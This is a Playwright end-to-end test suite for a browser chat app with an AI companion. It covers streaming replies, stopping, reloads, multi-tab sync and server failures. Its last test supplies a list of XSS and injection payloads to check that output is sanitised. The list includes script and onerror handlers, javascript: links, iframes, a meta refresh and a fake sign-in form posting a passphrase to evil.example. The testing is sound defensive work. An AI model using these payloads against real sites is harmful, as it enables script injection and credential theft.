"""Alice talks with her companion, in a browser."""

import re

import pytest
from playwright.sync_api import BrowserContext, Page, Route, expect

from tests.e2e.chat import LONG, Chat
from tests.e2e.script import go_on, wait_for_hangup
from tests.fakes.ollama import Script, load_failure, queue_full, refusal
from tests.fakes.ollama_thread import OllamaInThread
from tests.waiting import until

pytestmark = pytest.mark.e2e

MARKDOWN = (
    "Three things, **gently**:\n\n",
    "- bread\n- salt\n\n",
    "```python\nprint('evening')\n```\n\n",
    "and *tea* ",
    "with `honey`.",
)
LONG_REPLY = tuple(f"Paragraph {number} of a long evening, told without hurry.\n\n" for number in range(60))


def test_enter_sends_and_the_reply_comes(chat: Chat, ollama: OllamaInThread) -> None:
    ollama.say(["Good ", "evening."])
    chat.box.press_sequentially("Hello?")
    chat.box.press("Enter")
    expect(chat.mine).to_have_text("Hello?")
    expect(chat.words).to_have_text("Good evening.")
    chat.ends("complete")
    expect(chat.box).to_have_value("")
    expect(chat.box).to_be_focused()


def test_shift_and_enter_make_a_line(chat: Chat, ollama: OllamaInThread) -> None:
    ollama.say(["Two lines."])
    chat.box.press_sequentially("One")
    chat.box.press("Shift+Enter")
    chat.box.press_sequentially("two")
    expect(chat.box).to_have_value("One\ntwo")
    expect(chat.mine).to_have_count(0)
    chat.box.press("Enter")
    expect(chat.mine).to_have_text("One\ntwo", use_inner_text=True)
    chat.ends("complete")


def test_words_appear_while_they_are_spoken(chat: Chat, ollama: OllamaInThread) -> None:
    script = Script(("The kettle ", "is on, ", "and so am I."), hold_after=2)
    ollama.say(script)
    chat.say("Tea?")
    expect(chat.words).to_have_text("The kettle is on,")
    chat.ends("streaming")
    expect(chat.stop_button).to_be_visible()
    expect(chat.send_button).to_be_hidden()
    go_on(ollama, script)
    expect(chat.words).to_have_text("The kettle is on, and so am I.")
    chat.ends("complete")
    expect(chat.send_button).to_be_visible()


def test_finished_paragraphs_are_shown_as_markdown_before_the_reply_ends(chat: Chat, ollama: OllamaInThread) -> None:
    script = Script(MARKDOWN, hold_after=4)
    ollama.say(script)
    chat.say("What is left?")
    expect(chat.words.locator("strong")).to_have_text("gently")
    expect(chat.words.locator("li")).to_have_text(["bread", "salt"])
    expect(chat.words.locator("pre code")).to_have_text("print('evening')\n")
    chat.ends("streaming")
    go_on(ollama, script)
    expect(chat.words.locator("em")).to_have_text("tea")
    expect(chat.words.locator("p code")).to_have_text("honey")
    chat.ends("complete")
    expect(chat.words.locator("li")).to_have_text(["bread", "salt"])


@pytest.mark.parametrize("how", ["Escape", "the button"])
def test_stopping_keeps_what_was_already_said(chat: Chat, ollama: OllamaInThread, how: str) -> None:
    script = Script(("I was ", "about to", " go on."), hold_after=2)
    ollama.say(script)
    chat.say("Tell me everything.")
    expect(chat.words).to_have_text("I was about to")
    if how == "Escape":
        chat.box.press("Escape")
    else:
        chat.stop_button.click()
    chat.ends("stopped")
    expect(chat.words).to_have_text("I was about to")
    expect(chat.reply).to_contain_text("You stopped this reply.")
    expect(chat.send_button).to_be_visible()
    wait_for_hangup(script)


def test_a_reply_that_was_stopped_can_go_on(chat: Chat, ollama: OllamaInThread) -> None:
    ollama.say(Script(("Once ", "upon", " never"), hold_after=2), [" a time."])
    chat.say("A story.")
    expect(chat.words).to_have_text("Once upon")
    chat.box.press("Escape")
    chat.ends("stopped")
    chat.go_on.click()
    expect(chat.words).to_have_text("Once upon a time.")
    chat.ends("complete")
    expect(chat.replies).to_have_count(1)


def test_the_view_follows_the_words(chat: Chat, ollama: OllamaInThread) -> None:
    script = Script(LONG_REPLY, hold_after=40)
    ollama.say(script)
    chat.say("Tell it long.")
    chat.hears("Paragraph 39 ")
    until(lambda: chat.below() < 64, "the view stayed behind")
    expect(chat.to_end).to_be_hidden()
    go_on(ollama, script)
    chat.ends("complete")
    until(lambda: chat.below() < 64, "the view stayed behind at the end")


def test_the_view_stays_where_its_owner_scrolled_to_until_they_go_to_the_end(
    chat: Chat, ollama: OllamaInThread
) -> None:
    script = Script(LONG_REPLY, hold_after=40)
    ollama.say(script)
    chat.say("Tell it long.")
    chat.hears("Paragraph 39 ")
    chat.log.hover()
    chat.page.mouse.wheel(0, -600)
    expect(chat.to_end).to_be_visible()
    here = chat.log.evaluate("log => log.scrollTop")
    go_on(ollama, script)
    chat.hears("Paragraph 59 ")
    chat.ends("complete")
    assert abs(chat.log.evaluate("log => log.scrollTop") - here) < 2
    chat.to_end.click()
    until(lambda: chat.below() < 64, "the button did not lead to the end")
    expect(chat.to_end).to_be_hidden()


def test_a_refused_message_leaves_the_latest_words_in_view(chat: Chat, ollama: OllamaInThread) -> None:
    ollama.say(LONG_REPLY, load_failure())
    chat.say("Tell it long.")
    chat.ends("complete")
    chat.say("And now fail.")
    chat.ends("failed")
    chat.box.press("Enter")
    expect(chat.problem).to_contain_text("There is nothing to send yet.")
    until(lambda: chat.below() < 64, "the latest words slid out of view")
    expect(chat.try_again).to_be_in_viewport(ratio=1)
    expect(chat.to_end).to_be_hidden()


def test_every_tab_shows_the_same_turn_live(chat: Chat, context: BrowserContext, ollama: OllamaInThread) -> None:
    script = Script(("One voice, ", "two windows", "."), hold_after=2)
    ollama.say(script)
    other = Chat(context.new_page())
    other.page.goto(chat.page.url)
    expect(other.box).to_be_visible()
    chat.say("Can you hear me in both?")
    for tab in (chat, other):
        expect(tab.mine).to_have_text("Can you hear me in both?")
        expect(tab.words).to_have_text("One voice, two windows")
    expect(other.stop_button).to_be_visible()
    go_on(ollama, script)
    for tab in (chat, other):
        expect(tab.words).to_have_text("One voice, two windows.")
        tab.ends("complete")
        expect(tab.mine).to_have_count(1)
        expect(tab.replies).to_have_count(1)


def test_stopping_in_one_tab_stops_it_in_the_other(chat: Chat, context: BrowserContext, ollama: OllamaInThread) -> None:
    ollama.say(Script(("Half", " a word"), hold_after=1))
    chat.say("Speak.")
    other = Chat(context.new_page())
    other.page.goto(chat.page.url)
    expect(other.words).to_have_text("Half")
    other.page.keyboard.press("Escape")
    for tab in (chat, other):
        tab.ends("stopped")
        expect(tab.words).to_have_text("Half")


def test_a_reload_in_the_middle_shows_the_words_so_far_and_goes_on(chat: Chat, ollama: OllamaInThread) -> None:
    script = Script(("First a paragraph.\n\n", "Then ", "half", " a sentence."), hold_after=3)
    ollama.say(script)
    chat.say("Go.")
    chat.hears("Then half")
    chat.page.reload()
    expect(chat.mine).to_have_text("Go.")
    chat.hears("First a paragraph.")
    chat.hears("Then half")
    chat.ends("streaming")
    go_on(ollama, script)
    chat.hears("Then half a sentence.")
    chat.ends("complete")
    expect(chat.words.locator("p")).to_have_text(["First a paragraph.", "Then half a sentence."])


def test_a_draft_survives_a_reload_and_is_gone_once_it_is_sent(chat: Chat, ollama: OllamaInThread) -> None:
    chat.box.press_sequentially("Not yet sure about this")
    chat.page.reload()
    expect(chat.box).to_have_value("Not yet sure about this")
    ollama.say(["Now I know."])
    chat.box.press("Enter")
    chat.ends("complete")
    chat.page.reload()
    expect(chat.mine).to_have_text("Not yet sure about this")
    expect(chat.box).to_have_value("")


def test_what_is_typed_during_a_reply_is_kept(chat: Chat, ollama: OllamaInThread) -> None:
    script = Script(("Thinking", " done."), hold_after=1)
    ollama.say(script, ["And again."])
    chat.say("First.")
    expect(chat.words).to_have_text("Thinking")
    chat.box.press_sequentially("Second.")
    chat.box.press("Enter")
    expect(chat.box).to_have_value("Second.")
    go_on(ollama, script)
    chat.ends("complete")
    expect(chat.box).to_have_value("Second.")
    expect(chat.mine).to_have_count(1)
    chat.box.press("Enter")
    expect(chat.words).to_have_text("And again.")
    expect(chat.mine).to_have_count(2)


def test_an_empty_message_is_refused_with_a_sentence(chat: Chat) -> None:
    chat.box.press_sequentially("   ")
    chat.box.press("Enter")
    expect(chat.problem).to_contain_text("There is nothing to send yet.")
    expect(chat.mine).to_have_count(0)
    expect(chat.send_button).to_be_visible()


def test_a_message_that_is_too_long_is_refused_and_kept(chat: Chat, ollama: OllamaInThread) -> None:
    text = "evening " * 7_500
    chat.box.fill(text)
    chat.box.press("Enter")
    expect(chat.problem).to_contain_text("Send it in parts; it is still in the box.")
    expect(chat.box).to_have_value(text)
    expect(chat.mine).to_have_count(0)
    chat.page.reload()
    expect(chat.box).to_have_value(text)
    ollama.say(["Short is fine."])
    chat.say("In short: evening.")
    chat.ends("complete")
    expect(chat.problem).to_have_text("")


def test_an_answer_that_got_lost_on_its_way_makes_no_second_message(chat: Chat, ollama: OllamaInThread) -> None:
    def deliver_and_lose(route: Route) -> None:
        route.fetch()
        route.abort()

    ollama.say(["Heard once."])
    chat.page.route(re.compile("/turns/$"), deliver_and_lose, times=1)
    chat.box.fill("Did this arrive?")
    chat.box.press("Enter")
    expect(chat.problem).to_contain_text("can't be reached")
    expect(chat.box).to_have_value("Did this arrive?")

    def is_taken() -> bool:
        """Not while the reply to what did arrive is still running."""
        chat.box.press("Enter")
        return chat.box.input_value() == ""

    until(is_taken, "it could not be sent again")
    chat.ends("complete")
    chat.page.reload()
    expect(chat.mine).to_have_text(["Did this arrive?"])
    expect(chat.words).to_have_text("Heard once.")


FAILURES = {
    "dies in the middle": (Script(("Half ", "a"), die_after=2), "Half a", "stopped in the middle"),
    "breaks off in a line": (Script(("Half ", "a"), half_line_after=2), "Half a", "stopped in the middle"),
    "crashes in the middle": (Script(("Half ", "a"), error_line_after=2), "Half a", "failed while answering"),
    "can't load the model": (load_failure(), "", "failed while answering"),
    "is overrun": (queue_full(), "", "kept"),
    "has no such model": (refusal(404, "model 'smollm2:135m' not found"), "", "not there any more"),
    "says nothing": (Script(()), "", "without a word"),
}


@pytest.mark.parametrize("what", FAILURES)
def test_a_model_server_that_fails_is_told_in_a_sentence_and_can_be_tried_again(
    chat: Chat, ollama: OllamaInThread, what: str
) -> None:
    script, said, sentence = FAILURES[what]
    ollama.say(script, ["This time it works."])
    chat.say("Are you there?")
    chat.ends("failed")
    expect(chat.reply).to_contain_text(sentence)
    expect(chat.words).to_have_text(said)
    chat.try_again.click()
    expect(chat.words).to_have_text("This time it works.")
    chat.ends("complete")
    expect(chat.mine).to_have_text(["Are you there?"])
    expect(chat.replies).to_have_count(1)


def test_a_model_that_falls_silent_is_given_up_in_a_sentence(chat: Chat, ollama: OllamaInThread) -> None:
    ollama.say(Script(("Let me think", " …"), hold_after=1), ["Sorry, I was away."])
    chat.say("Anyone?")
    expect(chat.reply).to_contain_text("said nothing for too long", timeout=2 * LONG)
    chat.ends("failed")
    expect(chat.words).to_have_text("Let me think")
    chat.try_again.click()
    expect(chat.words).to_have_text("Sorry, I was away.")


def test_a_model_that_never_answers_can_be_stopped(chat: Chat, ollama: OllamaInThread) -> None:
    silent = Script(never_answers=True)
    ollama.say(silent, ["Now I do."])
    chat.say("Anyone?")
    until(silent.reached.is_set, "the model was not asked")
    chat.box.press("Escape")
    chat.ends("stopped")
    wait_for_hangup(silent)
    chat.try_again.click()
    expect(chat.words).to_have_text("Now I do.")


def test_a_conversation_is_renamed(chat: Chat, ollama: OllamaInThread) -> None:
    ollama.say(["Why?"])
    chat.say("I quit.")
    chat.ends("complete")
    chat.menu("Rename")
    title = chat.page.get_by_label("Title")
    expect(title).to_have_value("I quit.")
    title.fill("The day I left")
    chat.page.get_by_role("button", name="Keep this title").click()
    expect(chat.in_rail("The day I left")).to_have_attribute("aria-current", "page")
    expect(chat.mine).to_have_text(["I quit."])


def test_a_conversation_is_deleted_after_one_more_question(chat: Chat, ollama: OllamaInThread) -> None:
    ollama.say(["As you like."])
    chat.say("Forget this one, please.")
    chat.ends("complete")
    gone = chat.page.url
    chat.menu("Delete")
    expect(chat.page.get_by_role("heading", name="Delete this conversation?")).to_be_visible()
    chat.page.get_by_role("button", name="Delete for good").click()
    expect(chat.page.get_by_text("The conversation is deleted.")).to_be_visible()
    expect(chat.in_rail("Forget this one")).to_have_count(0)
    answer = chat.page.goto(gone)
    assert answer is not None
    assert answer.status == 404


def test_a_new_conversation_begins_with_the_companions_greeting(chat: Chat, ollama: OllamaInThread) -> None:
    ollama.say(["Noted."])
    chat.say("This one is full.")
    chat.ends("complete")
    before = chat.page.url
    chat.page.get_by_role("button", name="New conversation").click()
    expect(chat.page).not_to_have_url(before)
    expect(chat.mine).to_have_count(0)
    expect(chat.page.locator("[data-role=companion]")).to_contain_text("I'm Juniper")
    expect(chat.box).to_be_focused()
    expect(chat.in_rail("This one is full.")).to_be_visible()


@pytest.mark.xfail(
    strict=True, reason="beginning a new conversation deletes the empty one that stands open in another tab"
)
def test_a_tab_left_open_on_an_empty_talk_still_takes_a_message(
    chat: Chat, context: BrowserContext, ollama: OllamaInThread
) -> None:
    other = Chat(context.new_page())
    other.page.goto(chat.page.url)
    other.page.get_by_role("button", name="New conversation").click()
    expect(other.box).to_be_visible()
    ollama.say(["Still here."])
    chat.say("I was first.")
    expect(chat.words).to_have_text("Still here.")


HOSTILE = (
    "<script>document.title='taken'</script>\n\n",
    "<img src=x onerror=\"document.title='taken'\"> ![pixel](https://evil.example/pixel.png)\n\n",
    '<iframe src="https://evil.example/frame"></iframe>\n\n',
    "[a link](javascript:document.title='taken') [another](data:text/html,taken)\n\n",
    "<style>body{display:none} @import url(https://evil.example/s.css)</style>\n\n",
    '<div style="position:fixed;inset:0;background:url(https://evil.example/bg)">cover</div>\n\n',
    '<form action="https://evil.example/"><input name=passphrase autofocus><button>Sign in</button></form>\n\n',
    "<svg onload=\"document.title='taken'\"></svg><meta http-equiv=refresh content='0;url=https://evil.example/'>\n\n",
    '<a href="/" data-behaviour="composer" hx-get="https://evil.example/x" hx-trigger="load">x</a>\n\n',
    '<template id="unsent"></template><p id="problem" data-chat-log>y</p>\n\n',
    "The end of it.",
)


@pytest.mark.parametrize("whose", ["companion", "owner"])
def test_hostile_words_do_nothing_and_reach_no_other_host(chat: Chat, ollama: OllamaInThread, whose: str) -> None:
    page = chat.page
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    ollama.say(HOSTILE if whose == "companion" else ["The end of it."])
    chat.say("Show me." if whose == "companion" else "".join(HOSTILE))
    chat.hears("The end of it.")
    chat.ends("complete")
    _is_harmless(page)
    page.reload()
    chat.hears("The end of it.")
    expect(page.locator("[data-composer]")).to_be_visible()
    _is_harmless(page)
    here = page.url.split("/chat/")[0]
    assert [url for url in asked if not url.startswith((here, "data:"))] == []


def _is_harmless(page: Page) -> None:
    log = page.locator("[data-chat-log]")
    expect(
        log.locator("script, iframe, style, form, input, svg, img, meta, template, [style], [onerror]")
    ).to_have_count(0)
    expect(log.locator("[data-text] :is([data-behaviour], [hx-get], [id], [class])")).to_have_count(0)
    expect(log.locator("a[href^='javascript'], a[href^='data']")).to_have_count(0)
    assert page.title() != "taken"
